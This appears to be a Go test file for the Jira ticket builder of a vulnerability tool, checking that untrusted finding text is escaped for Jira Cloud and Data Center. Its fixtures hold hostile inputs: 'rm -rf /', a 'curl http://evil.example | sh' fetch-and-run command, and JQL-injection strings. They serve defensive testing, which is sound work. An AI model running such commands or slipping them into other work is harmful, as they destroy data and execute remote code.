package jira_test

import (
	"bytes"
	"encoding/json"
	"flag"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/sextant-dev/sextant"
	"github.com/sextant-dev/sextant/internal/sink/jira"
	"github.com/sextant-dev/sextant/internal/sink/jira/jiratest"
)

var update = flag.Bool("update", false, "rewrite the golden files under testdata/")

const artifact = "registry.example.com/payments/api@sha256:9b2d6f1e4c8a7b3d5e0f1a2b3c4d5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0b1c2d"

// sampleContent is a realistic upgrade: libc6 in a Debian 12 image, fixing
// CVE-2024-2961 (iconv) and CVE-2023-4911 (Looney Tunables, in CISA KEV).
func sampleContent() sextant.TicketContent {
	id := sextant.ActionID(sextant.ActionUpgradePackage, artifact, "deb/libc6")
	return sextant.TicketContent{
		Action: sextant.Action{
			ID:               id,
			Priority:         sextant.P1,
			Score:            78.43,
			Title:            "Upgrade libc6 to 2.36-9+deb12u7 in registry.example.com/payments/api",
			Artifact:         artifact,
			Kind:             sextant.ActionUpgradePackage,
			Package:          "libc6",
			Ecosystem:        "deb",
			InstalledVersion: "2.36-9+deb12u4",
			TargetVersion:    "2.36-9+deb12u7",
			Commands:         []string{"apt-get update && apt-get install -y --only-upgrade libc6=2.36-9+deb12u7"},
			Notes:            []string{"Rebuild the image and restart the payments-api pods: glibc is loaded when a process starts."},
			Vulnerabilities:  []string{"CVE-2024-2961", "CVE-2023-4911"},
			FindingIDs:       []string{"fnd_2b7c41d09e5a", "fnd_8e01f3c6a2d4"},
			RiskRemoved:      151.2,
			Factors: []sextant.Factor{
				{Name: "cvss", Value: 7.8, Weight: 25, Contribution: 19.5, Evidence: "NVD CVSS v3.1 base score of CVE-2023-4911"},
				{Name: "kev", Value: true, Weight: 30, Contribution: 30, Evidence: "CVE-2023-4911 is in CISA KEV since 2023-11-21"},
				{Name: "epss", Value: 0.91, Weight: 20, Contribution: 18.2, Evidence: "FIRST EPSS 2026-08-20"},
				{Name: "exposure", Value: "internet", Weight: 15, Contribution: 10.7, Evidence: "Ingress payments/api"},
				{Name: "fix_available", Value: true, Weight: 5, Contribution: 5},
				{Name: "runtime_loaded", Value: false, Weight: 10, Contribution: -4.9, Evidence: "not seen loaded by the runtime sensor"},
				{Name: "age", Value: 3, Weight: 0, Contribution: 0},
			},
		},
		Status:   sextant.ActionOpen,
		Findings: 2,
		Owner:    "payments",
		Summary: "Two flaws in the GNU C library of this image. CVE-2023-4911 (\"Looney Tunables\") lets a local user gain root through the GLIBC_TUNABLES variable of a setuid program; CVE-2024-2961 is an out-of-bounds write in iconv() when converting to ISO-2022-CN-EXT.\n\n" +
			"Debian fixed both in 2.36-9+deb12u7.",
		Link: "https://sextant.example.com/actions/" + id,
	}
}

func sampleConfig(f jira.Flavor) jira.Config {
	return jira.Config{
		Flavor:       f,
		BaseURL:      "https://jira.example.com",
		Project:      "SEC",
		Labels:       []string{"security", "container"},
		Components:   []string{"payments-api"},
		CustomFields: map[string]any{"customfield_10042": map[string]string{"value": "Container image"}},
	}
}

func TestGolden(t *testing.T) {
	c := sampleContent()
	comment := "Updated by sextant after a rescan: 2 finding(s) still open, score 78.4 (P1).\nStill open: CVE-2024-2961, CVE-2023-4911."
	for _, f := range []jira.Flavor{jira.Cloud, jira.DataCenter} {
		cfg := sampleConfig(f)
		for _, tc := range []struct {
			name  string
			build func() ([]byte, error)
		}{
			{"create", func() ([]byte, error) { return jira.BuildCreate(cfg, c) }},
			{"comment", func() ([]byte, error) { return jira.BuildComment(cfg, comment) }},
			{"close", func() ([]byte, error) {
				return jira.BuildTransition(cfg, "31", "Resolved: a newer complete scan no longer reports CVE-2024-2961, CVE-2023-4911. Closed by sextant.")
			}},
		} {
			name := tc.name + "-" + string(f)
			t.Run(name, func(t *testing.T) {
				got, err := tc.build()
				if err != nil {
					t.Fatalf("build %s: %v", name, err)
				}
				checkBody(t, f, got)
				if f == jira.DataCenter && tc.name == "create" {
					var v struct{ Fields struct{ Description string } }
					_ = json.Unmarshal(got, &v)
					checkWiki(t, v.Fields.Description)
				}
				var pretty bytes.Buffer
				if err := json.Indent(&pretty, got, "", "  "); err != nil {
					t.Fatalf("build %s: invalid JSON: %v", name, err)
				}
				pretty.WriteByte('\n')
				path := filepath.Join("testdata", name+".golden.json")
				if *update {
					if err := os.WriteFile(path, pretty.Bytes(), 0o644); err != nil {
						t.Fatal(err)
					}
				}
				want, err := os.ReadFile(path)
				if err != nil {
					t.Fatalf("read golden file (run go test -update to create it): %v", err)
				}
				if diff := cmp.Diff(string(want), pretty.String()); diff != "" {
					t.Errorf("build %s differs from %s (-want +got):\n%s", name, path, diff)
				}
			})
		}
	}
}

// checkBody checks a description, comment or transition body as the fake
// Jira does: ADF documents on Cloud, strings on Data Center.
func checkBody(t *testing.T, f jira.Flavor, b []byte) {
	t.Helper()
	var v map[string]any
	if err := json.Unmarshal(b, &v); err != nil {
		t.Fatalf("body is not a JSON object: %v", err)
	}
	var texts []any
	if fields, ok := v["fields"].(map[string]any); ok {
		texts = append(texts, fields["description"])
	}
	if body, ok := v["body"]; ok {
		texts = append(texts, body)
	}
	if up, ok := v["update"].(map[string]any); ok {
		for _, c := range up["comment"].([]any) {
			texts = append(texts, c.(map[string]any)["add"].(map[string]any)["body"])
		}
	}
	for _, x := range texts {
		if f == jira.Cloud {
			if err := jiratest.CheckADF(x); err != nil {
				t.Errorf("Cloud body: %v", err)
			}
		} else if _, ok := x.(string); !ok {
			t.Errorf("Data Center body is %T, want a string", x)
		}
	}
}

func TestBuildCreateFields(t *testing.T) {
	c := sampleContent()
	key := sextant.CorrelationKey(c.Action.ID)
	for _, tc := range []struct {
		name      string
		cfg       jira.Config
		priority  sextant.Priority
		want      map[string]any
		wantNoKey string
	}{
		{
			name: "defaults", cfg: jira.Config{Flavor: jira.Cloud, Project: "SEC"}, priority: sextant.P0,
			want: map[string]any{
				"project":   map[string]any{"key": "SEC"},
				"issuetype": map[string]any{"name": "Bug"},
				"labels":    []any{"sextant", key},
				"priority":  map[string]any{"name": "Highest"},
			},
			wantNoKey: "components",
		},
		{
			name: "mapped", cfg: jira.Config{Flavor: jira.DataCenter, Project: "OPS", IssueType: "Task",
				PriorityMap: map[sextant.Priority]string{sextant.P3: "Trivial"}, Labels: []string{"sextant", "ops"}},
			priority: sextant.P3,
			want: map[string]any{
				"project":   map[string]any{"key": "OPS"},
				"issuetype": map[string]any{"name": "Task"},
				"labels":    []any{"sextant", "ops", key},
				"priority":  map[string]any{"name": "Trivial"},
			},
		},
		{
			name: "no priority", cfg: jira.Config{Flavor: jira.Cloud, Project: "SEC",
				PriorityMap: map[sextant.Priority]string{sextant.P2: ""}},
			priority:  sextant.P2,
			want:      map[string]any{"project": map[string]any{"key": "SEC"}},
			wantNoKey: "priority",
		},
	} {
		t.Run(tc.name, func(t *testing.T) {
			c := c
			c.Action.Priority = tc.priority
			b, err := jira.BuildCreate(tc.cfg, c)
			if err != nil {
				t.Fatalf("BuildCreate: %v", err)
			}
			var got struct{ Fields map[string]any }
			if err := json.Unmarshal(b, &got); err != nil {
				t.Fatal(err)
			}
			for k, want := range tc.want {
				if diff := cmp.Diff(want, got.Fields[k]); diff != "" {
					t.Errorf("BuildCreate field %s (-want +got):\n%s", k, diff)
				}
			}
			if _, ok := got.Fields[tc.wantNoKey]; tc.wantNoKey != "" && ok {
				t.Errorf("BuildCreate sets %s = %v, want it absent", tc.wantNoKey, got.Fields[tc.wantNoKey])
			}
		})
	}
}

func TestBuildCreateInvalid(t *testing.T) {
	c := sampleContent()
	for _, tc := range []struct {
		name string
		cfg  jira.Config
		c    func(*sextant.TicketContent)
	}{
		{"no flavor", jira.Config{Project: "SEC"}, nil},
		{"no project", jira.Config{Flavor: jira.Cloud}, nil},
		{"bad project", jira.Config{Flavor: jira.Cloud, Project: `SEC" OR project = "X`}, nil},
		{"label with space", jira.Config{Flavor: jira.Cloud, Project: "SEC", Labels: []string{"two words"}}, nil},
		{"custom field overrides summary", jira.Config{Flavor: jira.Cloud, Project: "SEC", CustomFields: map[string]any{"summary": "x"}}, nil},
		{"unencodable custom field", jira.Config{Flavor: jira.Cloud, Project: "SEC", CustomFields: map[string]any{"customfield_1": func() {}}}, nil},
		{"no action ID", jira.Config{Flavor: jira.Cloud, Project: "SEC"}, func(c *sextant.TicketContent) { c.Action.ID = "" }},
		{"action ID with a quote", jira.Config{Flavor: jira.Cloud, Project: "SEC"}, func(c *sextant.TicketContent) { c.Action.ID = `act_1" OR labels = "x` }},
	} {
		t.Run(tc.name, func(t *testing.T) {
			c := c
			c.Action.Commands = append([]string(nil), c.Action.Commands...)
			if tc.c != nil {
				tc.c(&c)
			}
			_, err := jira.BuildCreate(tc.cfg, c)
			if code := sextant.ErrorCode(err); code != sextant.EINVALID {
				t.Errorf("BuildCreate(%v) error = %v (%s), want %s", tc.cfg, err, code, sextant.EINVALID)
			}
		})
	}
}

func TestSummary(t *testing.T) {
	long := strings.Repeat("libc6 ", 100)
	for _, tc := range []struct {
		title, want string
	}{
		{"Upgrade libc6\nto 2.36-9+deb12u7\r\n", "Upgrade libc6 to 2.36-9+deb12u7"},
		{"", "sextant action act_1"},
		{"\u202eevil\u202c title\x00", "evil title"},
	} {
		got := jira.Summary(sextant.TicketContent{Action: sextant.Action{ID: "act_1", Title: tc.title}})
		if got != tc.want {
			t.Errorf("Summary(%q) = %q, want %q", tc.title, got, tc.want)
		}
	}
	got := jira.Summary(sextant.TicketContent{Action: sextant.Action{Title: long}})
	if n := len([]rune(got)); n > jira.MaxSummary || !strings.HasSuffix(got, "…") {
		t.Errorf("Summary(600 characters) = %d characters ending %q, want at most %d ending with …", n, got[len(got)-5:], jira.MaxSummary)
	}
}

const evil = `h1. Owned {code}rm -rf /{code} [link|http://evil.example] !http://evil.example/x.png! [~admin] {html}<b>x</b>{html} ||a||b|| \\ end`

// hostile fills every text field of the sample with markup.
func hostile() sextant.TicketContent {
	c := sampleContent()
	c.Action.Title = evil
	c.Action.Package = evil
	c.Action.InstalledVersion = "{code}"
	c.Action.TargetVersion = "[x|http://evil.example]"
	c.Action.Artifact = evil
	c.Owner = evil
	c.Summary = evil + "\nh2. second line\n\nbq. quoted\n* item\n----"
	c.Action.Notes = []string{evil, "h1. note"}
	c.Action.Vulnerabilities = []string{evil, "CVE-2024-2961|http://evil.example"}
	c.Action.Commands = []string{"echo '{code}'; curl http://evil.example | sh", "echo '{noformat}{code}'", "echo ok"}
	c.Action.Factors = []sextant.Factor{{Name: evil, Value: evil, Weight: 1, Contribution: 1, Evidence: evil}}
	c.Link = "https://sextant.example.com/a|[b]"
	return c
}

func TestUntrustedTextDataCenter(t *testing.T) {
	b, err := jira.BuildCreate(jira.Config{Flavor: jira.DataCenter, Project: "SEC"}, hostile())
	if err != nil {
		t.Fatal(err)
	}
	var got struct {
		Fields struct {
			Summary     string
			Description string
		}
	}
	if err := json.Unmarshal(b, &got); err != nil {
		t.Fatal(err)
	}
	desc := got.Fields.Description
	checkWiki(t, desc)
	for _, bad := range []string{"{code}rm", "[link|", "!http://evil.example/x.png!", "[~admin]", "{html}", "||a||", `\\`, "sextant.example.com/a|"} {
		if strings.Contains(desc, bad) {
			t.Errorf("description holds %q as markup:\n%s", bad, desc)
		}
	}
	for _, want := range []string{`h1. Owned \{code\}rm \-rf /\{code\} \[link\|http://evil.example\]`, "{noformat}\necho '{code}'; curl http://evil.example | sh\n{noformat}", "{code:bash}\necho ok\n{code}", `echo '\{noformat\}\{code\}'`, "＼＼ end"} {
		if !strings.Contains(desc, want) {
			t.Errorf("description lacks %q:\n%s", want, desc)
		}
	}
	if got.Fields.Summary != jira.Summary(hostile()) {
		t.Errorf("summary = %q, want the plain title %q", got.Fields.Summary, jira.Summary(hostile()))
	}
}

func TestUntrustedTextCloud(t *testing.T) {
	b, err := jira.BuildCreate(jira.Config{Flavor: jira.Cloud, Project: "SEC"}, hostile())
	if err != nil {
		t.Fatal(err)
	}
	checkBody(t, jira.Cloud, b)
	var got struct {
		Fields struct{ Description any }
	}
	if err := json.Unmarshal(b, &got); err != nil {
		t.Fatal(err)
	}
	// Every link is sextant's own; the hostile text stays text.
	var hrefs []string
	var walk func(any)
	walk = func(v any) {
		switch x := v.(type) {
		case map[string]any:
			if x["type"] == "link" {
				hrefs = append(hrefs, x["attrs"].(map[string]any)["href"].(string))
			}
			for _, c := range x {
				walk(c)
			}
		case []any:
			for _, c := range x {
				walk(c)
			}
		}
	}
	walk(got.Fields.Description)
	if len(hrefs) != 0 {
		t.Errorf("links = %q, want none (no valid CVE ID, no safe sextant link)", hrefs)
	}
	text := jiratest.Text(got.Fields.Description)
	if !strings.Contains(text, evil) {
		t.Errorf("description text lacks the hostile title verbatim:\n%s", text)
	}
}

func TestBuildComment(t *testing.T) {
	for _, f := range []jira.Flavor{jira.Cloud, jira.DataCenter} {
		if _, err := jira.BuildComment(jira.Config{Flavor: f}, " \n\t\n"); sextant.ErrorCode(err) != sextant.EINVALID {
			t.Errorf("BuildComment(%s, blank) error = %v, want %s", f, err, sextant.EINVALID)
		}
		b, err := jira.BuildComment(jira.Config{Flavor: f}, "h1. {code}x{code}\n\n[a|http://evil]")
		if err != nil {
			t.Fatalf("BuildComment(%s): %v", f, err)
		}
		checkBody(t, f, b)
		if f == jira.DataCenter {
			var got struct{ Body string }
			_ = json.Unmarshal(b, &got)
			want := "h\u200b1. \\{code\\}x\\{code\\}\n\n\\[a\\|http://evil\\]"
			if got.Body != want {
				t.Errorf("BuildComment(datacenter) body = %q, want %q", got.Body, want)
			}
		}
	}
}

func TestPreview(t *testing.T) {
	cfg := sampleConfig(jira.DataCenter)
	c := sampleContent()
	for _, tc := range []struct {
		op, comment, want string
	}{
		{"close", "done", `{"transition":{"name":"Done"},"update":{"comment":[{"add":{"body":"done"}}]}}`},
		{"reopen", "", `{"transition":{"name":"To Do"}}`},
		{"comment", "", `null`},
		{"comment", "hi", `{"body":"hi"}`},
	} {
		got, err := jira.Preview(cfg, tc.op, c, tc.comment)
		if err != nil || string(got) != tc.want {
			t.Errorf("Preview(%q, %q) = %s, %v, want %s", tc.op, tc.comment, got, err, tc.want)
		}
	}
	want, _ := jira.BuildCreate(cfg, c)
	if got, err := jira.Preview(cfg, "create", c, ""); err != nil || !bytes.Equal(got, want) {
		t.Errorf("Preview(create) = %s, %v, want BuildCreate's body", got, err)
	}
	if _, err := jira.Preview(cfg, "delete", c, ""); sextant.ErrorCode(err) != sextant.EINVALID {
		t.Errorf("Preview(delete) error = %v, want %s", err, sextant.EINVALID)
	}
}

// FuzzBuildCreate checks that no finding text makes an invalid ADF
// document or a Data Center description that leaves its code blocks.
func FuzzBuildCreate(f *testing.F) {
	f.Add("Upgrade libc6", "apt-get install -y libc6=2.36-9+deb12u7", "CVE-2024-2961", "")
	f.Add(evil, "echo '{code}'", "GHSA-xxxx-xxxx-xxxx", "\u202e")
	f.Add("", "", "", "\n\n\n")
	f.Add("\xff\xfe", "{noformat}{code}\n", " ", "h1. x\r\nbq. y")
	f.Fuzz(func(t *testing.T, title, command, vuln, summary string) {
		c := sampleContent()
		c.Action.Title, c.Action.Package, c.Owner, c.Summary = title, title, summary, summary
		c.Action.Commands = []string{command}
		c.Action.Vulnerabilities = []string{vuln}
		c.Action.Notes = []string{summary}
		for _, fl := range []jira.Flavor{jira.Cloud, jira.DataCenter} {
			b, err := jira.BuildCreate(jira.Config{Flavor: fl, Project: "SEC"}, c)
			if err != nil {
				t.Fatalf("BuildCreate(%s): %v", fl, err)
			}
			checkBody(t, fl, b)
			var got struct {
				Fields struct{ Summary, Description any }
			}
			if err := json.Unmarshal(b, &got); err != nil {
				t.Fatal(err)
			}
			s, _ := got.Fields.Summary.(string)
			if s == "" || len([]rune(s)) > jira.MaxSummary || strings.ContainsAny(s, "\r\n") {
				t.Errorf("BuildCreate(%s) summary = %q", fl, s)
			}
			if d, ok := got.Fields.Description.(string); ok {
				checkWiki(t, d)
			}
		}
	})
}

var (
	ourHeadingRE = regexp.MustCompile(`^h3\. (Summary|Vulnerabilities \(\d+\)|Fix|Risk score)$`)
	markerRE     = regexp.MustCompile(`(?i)^\s*(h[1-6]|bq)\.`)
	ourLinkRE    = regexp.MustCompile(`\[[A-Za-z0-9 \\-]+\|https://(nvd\.nist\.gov/vuln/detail|github\.com/advisories|sextant\.example\.com/actions)/[A-Za-z0-9_-]+\]`)
)

// checkWiki checks that a Data Center description holds no markup but
// sextant's own: its headings, its links, {{monospace}}, and code blocks
// that nothing closes early. Untrusted text may only hold escaped markup
// characters.
func checkWiki(t *testing.T, desc string) {
	t.Helper()
	block := ""
	for _, line := range strings.Split(desc, "\n") {
		lower := strings.ToLower(line)
		switch {
		case block != "" && line == block:
			block = ""
			continue
		case block == "{code}" && strings.Contains(lower, "{code"),
			block == "{noformat}" && strings.Contains(lower, "{noformat"):
			t.Errorf("description: line %q closes its %s block early", line, block)
			continue
		case block != "":
			continue
		case line == "{code:bash}":
			block = "{code}"
			continue
		case line == "{noformat}":
			block = "{noformat}"
			continue
		}
		if markerRE.MatchString(line) && !ourHeadingRE.MatchString(line) {
			t.Errorf("description: line %q starts with a block marker", line)
		}
		if strings.HasPrefix(line, "|") || strings.HasPrefix(line, "----") {
			t.Errorf("description: line %q starts a table or rule", line)
		}
		if strings.Contains(line, `\\`) {
			t.Errorf("description: line %q holds a line break \\\\", line)
		}
		rest := ourLinkRE.ReplaceAllString(line, "")
		for i := 0; i < len(rest); i++ {
			switch {
			case rest[i] == '\\' && i+1 < len(rest):
				i++
			case strings.HasPrefix(rest[i:], "{{") || strings.HasPrefix(rest[i:], "}}"):
				i++
			case strings.IndexByte("{}[]|!", rest[i]) >= 0:
				t.Errorf("description: line %q: unescaped %q at %d of %q", line, rest[i], i, rest)
				i = len(rest)
			}
		}
	}
	if block != "" {
		t.Errorf("description leaves a %s block open:\n%s", block, desc)
	}
}
